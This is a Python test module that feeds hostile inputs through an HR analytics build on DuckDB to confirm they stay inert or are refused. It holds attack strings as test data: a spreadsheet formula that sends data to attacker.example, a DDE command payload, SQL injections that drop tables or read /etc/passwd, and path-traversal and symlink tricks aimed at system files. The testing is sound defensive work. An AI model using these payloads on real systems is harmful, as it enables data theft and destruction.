"""Issue 17: a hostile-input corpus run through whole builds. Hostile *data* builds and stays
inert (stored as text, never run as SQL, neutralised in every CSV a person can download);
hostile *configuration* and oversized records stop the build with a clear message and leave
no database behind."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from pipelines.build import build
from pipelines.cli import main
from pipelines.db import connect_readonly
from pipelines.errors import DataError
from tests.helpers import EMPLOYEE_COLS, JOB_COLS, write_config, write_csv
from dashboard.pages import page_path

FORMULA = '=WEBSERVICE("https://attacker.example/?"&A1)'
DDE = "+cmd' /C calc'!A0"
SQL_TEXT = "x'); DROP TABLE raw_hr__employees; --"
READ_FILE = "' || (SELECT string_agg(content, '') FROM read_text('/etc/passwd')) || '"
SECRET = "root:x:0:0:root:/root:/bin/bash"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ENTRY = str(Path(__file__).resolve().parent.parent / "dashboard" / "streamlit_app.py")


def hostile_folder(folder: Path) -> Path:
    """Ten people (two groups of five, so nothing is suppressed) whose labels are attacks,
    plus a header column whose name is one."""
    people = [
        {
            "employee_id": f"E{i}",
            "gender": FORMULA if i < 5 else DDE,
            "race_ethnicity": SQL_TEXT,
            "hire_date": "2020-01-01",
        }
        for i in range(10)
    ]
    header = EMPLOYEE_COLS + [READ_FILE]
    write_csv(folder / "hr" / "employees.csv", header, [{**p, READ_FILE: "@SUM(1)"} for p in people])
    jobs = [
        {
            "employee_id": p["employee_id"],
            "effective_date": "2020-01-01",
            "department": READ_FILE,
            "job_level": "L1",
            "location": '@HYPERLINK("x")',
            "fte": "1",
            "annual_base_salary": "50000",
            "currency": "USD",
            "change_reason": "hire",
        }
        for p in people
    ]
    # one row quarantined for its date: its raw value is shown on the Data quality page
    jobs.append({**jobs[0], "effective_date": FORMULA, "change_reason": "promotion"})
    write_csv(folder / "hr" / "job_history.csv", JOB_COLS, jobs)
    write_config(folder, {"as_of": "2020-12-31", "organisation": READ_FILE})
    return folder


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("corpus")
    (tmp / "secret.txt").write_text(SECRET)
    db = tmp / "hostile.duckdb"
    build(hostile_folder(tmp / "data"), db)
    return db


def test_hostile_labels_are_stored_as_text_and_nothing_ran(hostile_db):
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        genders = {r[0] for r in con.execute("SELECT DISTINCT gender FROM stg_hr__employees").fetchall()}
        races = {r[0] for r in con.execute("SELECT DISTINCT race_ethnicity FROM stg_hr__employees").fetchall()}
        depts = {r[0] for r in con.execute("SELECT DISTINCT department FROM stg_hr__job_history").fetchall()}
        loaded = con.execute(
            "SELECT rows_in, rows_loaded, rows_quarantined FROM manifest_files WHERE table_name = 'hr__employees'"
        ).fetchall()
    finally:
        con.close()
    assert genders == {FORMULA, DDE} and races == {SQL_TEXT} and depts == {READ_FILE}
    assert loaded == [(10, 10, 0)]


def test_metrics_csv_neutralises_the_labels(hostile_db):
    out = CliRunner().invoke(
        main, ["metrics", "headcount", "--by", "gender", "--format", "csv", "--db", str(hostile_db)]
    )
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert {r["group"] for r in rows} >= {"'" + FORMULA, "'" + DDE}
    assert SECRET not in out.output
    for row in rows:
        assert not any(
            str(v).startswith(FORMULA_START) for v in row.values() if not str(v).lstrip("-").replace(".", "").isdigit()
        ), row


def test_an_injected_expression_cannot_read_files_on_a_read_only_connection(hostile_db):
    secret = hostile_db.parent / "secret.txt"
    con = connect_readonly(hostile_db)
    try:
        with pytest.raises(duckdb.Error):
            con.execute(
                f"SELECT gender, (SELECT string_agg(content, '') FROM read_text('{secret}')) FROM stg_hr__employees"
            ).fetchall()
    finally:
        con.close()


@pytest.mark.slow
def test_dashboard_tables_carry_no_live_formula(hostile_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("EQUITY_DB", str(hostile_db))
    cells = []
    # (the workforce and retention pages fail on a folder this small, for reasons unrelated to the labels)
    for page in (page_path("overview"), page_path("data_quality"), page_path("pay")):
        at = AppTest.from_file(ENTRY, default_timeout=120).run()
        at.switch_page(page).run()
        assert not at.exception, at.exception
        cells += [str(c) for d in at.dataframe for c in [*d.value.columns, *d.value.to_numpy().ravel()]]
    assert "'" + FORMULA in cells or "'" + DDE in cells  # the labels are shown, neutralised
    live = [
        c
        for c in cells
        if c.startswith(FORMULA_START) and not c.lstrip("+-").rstrip("%").replace(".", "").replace(",", "").isdigit()
    ]
    assert live == []


def _refused(tmp_path: Path, change) -> str:
    data = hostile_folder(tmp_path / "data")
    change(data, tmp_path)
    with pytest.raises(DataError) as err:
        build(data, tmp_path / "x.duckdb")
    assert not (tmp_path / "x.duckdb").exists()
    assert SECRET not in str(err.value)
    return str(err.value)


def _setting(key, value):
    def change(data, tmp):
        section, name = key.split(".")
        write_config(data, {"as_of": "2020-12-31", section: {name: value}})

    return change


def _mapping_file(name_of):
    def change(data, tmp):
        (tmp / "outside").mkdir(exist_ok=True)
        shutil.copy(data / "hr" / "employees.csv", tmp / "outside" / "employees.csv")
        (tmp / "outside" / "passwd").write_text(SECRET + "\n")
        write_config(data, {"as_of": "2020-12-31", "mapping": {"hr/employees": {"file": name_of(tmp)}}})

    return change


def _symlink(data, tmp):
    (tmp / "passwd").write_text(SECRET + "\n")
    (data / "hr" / "employees.csv").unlink()
    (data / "hr" / "employees.csv").symlink_to(tmp / "passwd")


def _padded_last_record(data, tmp):
    path = data / "hr" / "employees.csv"
    text = path.read_text().rstrip("\n")
    head, last = text.rsplit("\n", 1)
    cells = last.split(",")
    cells[10] = " " * (40 * 1024 * 1024)
    path.write_text(head + "\n" + ",".join(cells) + "\n")


@pytest.mark.parametrize(
    "change, expected",
    [
        (
            _setting(
                "demographics.age_bands",
                ["200 THEN (SELECT string_agg(content,'') FROM read_text('/etc/passwd')) WHEN false"],
            ),
            "demographics.age_bands",
        ),
        (_setting("workforce.follow_up_days", "365; DROP TABLE x"), "workforce.follow_up_days"),
        (_setting("procurement.grace_days", "0) OR (1=1"), "procurement.grace_days"),
        (_mapping_file(lambda tmp: "../outside/passwd"), "outside the data folder"),
        (_mapping_file(lambda tmp: "../../" * 8 + "etc/passwd"), "outside the data folder"),
        (_mapping_file(lambda tmp: str(tmp / "outside" / "employees.csv")), "absolute path"),
        (_symlink, "outside the data folder"),
        (_padded_last_record, "holds 10 records but the CSV reader loaded 9: record 10, starting on line 11"),
    ],
    ids=["age-bands-sql", "days-sql", "grace-sql", "dot-dot", "deep-dot-dot", "absolute", "symlink", "40mb-record"],
)
def test_hostile_configuration_and_records_stop_the_build(tmp_path, change, expected):
    assert expected in _refused(tmp_path, change)
